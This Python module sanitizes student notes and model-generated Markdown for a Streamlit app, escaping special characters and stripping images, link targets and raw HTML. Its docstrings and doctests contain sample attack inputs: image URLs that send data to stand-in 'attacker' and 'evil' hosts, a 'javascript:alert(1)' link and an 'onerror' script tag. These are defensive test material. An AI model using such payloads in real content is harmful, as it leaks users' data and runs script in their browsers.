"""Text from notes and from the model, made safe to hand to ``st.markdown``.

Streamlit renders Markdown without raw HTML (the app never passes ``unsafe_allow_html``), but
Markdown itself can still fetch: ``![](http://attacker/?q=secret)`` makes the browser load a
remote image the moment an answer renders. So:

- **passages** (the student's notes) are escaped entirely: every Markdown and HTML character is
  backslash-escaped, so a note shows exactly as written, ``<script>`` included, as text;
- **answers** (the model's Markdown) keep their formatting, but images become their alt text,
  links lose their target, and raw HTML tags are escaped.
"""

from __future__ import annotations

import re

_MARKDOWN_SPECIALS = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:=&\"'])")
_TARGET = r"\((?:[^()]|\([^()]*\))*\)"  # a link target, one level of parentheses inside
_IMAGE = re.compile(r"!\[([^\]]*)\]" + _TARGET)
_REFERENCE_IMAGE = re.compile(r"!\[([^\]]*)\]\[[^\]]*\]")
_LINK = re.compile(r"\[([^\]]+)\]" + _TARGET)
_LINK_DEFINITION = re.compile(r"^\s{0,3}\[[^\]]+\]:\s*\S+.*$", re.MULTILINE)
_AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|data|javascript):[^>]*)>", re.IGNORECASE)
_TAG = re.compile(r"<(/?[A-Za-z!?][^>]*)>")


def escape_markdown(text: str) -> str:
    """Text shown literally: no Markdown, no HTML, no LaTeX.

    >>> escape_markdown("<img src=x onerror=alert(1)> **b**")
    '\\\\<img src\\\\=x onerror\\\\=alert\\\\(1\\\\)\\\\> \\\\*\\\\*b\\\\*\\\\*'
    """
    escaped = _MARKDOWN_SPECIALS.sub(r"\\\1", text)
    return escaped.replace("\n", "  \n")  # keep the note's line breaks


def safe_answer_markdown(text: str) -> str:
    """The model's Markdown with nothing that fetches or executes.

    >>> safe_answer_markdown("见图 ![x](http://evil/?q=1) 和 [链接](javascript:alert(1)) <b>hi</b>")
    '见图 x 和 链接 &lt;b&gt;hi&lt;/b&gt;'
    """
    text = _IMAGE.sub(r"\1", text)
    text = _REFERENCE_IMAGE.sub(r"\1", text)
    text = _LINK_DEFINITION.sub("", text)
    text = _LINK.sub(r"\1", text)
    text = _AUTOLINK.sub(r"\1", text)
    text = _TAG.sub(lambda m: "&lt;" + m.group(1) + "&gt;", text)
    return text


def highlighted_passage(text: str, cited: str) -> str:
    """The passage escaped, with the part the answer was built from highlighted.

    ``cited`` is the excerpt the model read (a window of the passage, possibly with ``…`` at
    the cuts); its longest contiguous run found in ``text`` is highlighted.

    >>> highlighted_passage("a b. c d. e f.", "c d.")
    'a b\\\\. :orange-background[c d\\\\.] e f\\\\.'
    """
    span = _find_span(text, cited)
    if span is None:
        return escape_markdown(text)
    start, end = span
    inner = "  \n".join(
        f":orange-background[{escape_markdown(line)}]" if line.strip() else ""
        for line in text[start:end].split("\n")
    )
    return escape_markdown(text[:start]) + inner + escape_markdown(text[end:])


def _find_span(text: str, cited: str) -> tuple[int, int] | None:
    pieces = [p.strip() for p in re.split(r"…|\.\.\.", cited) if p.strip()]
    best: tuple[int, int] | None = None
    for piece in pieces:
        start = text.find(piece)
        if start >= 0 and (best is None or len(piece) > best[1] - best[0]):
            best = (start, start + len(piece))
    return best
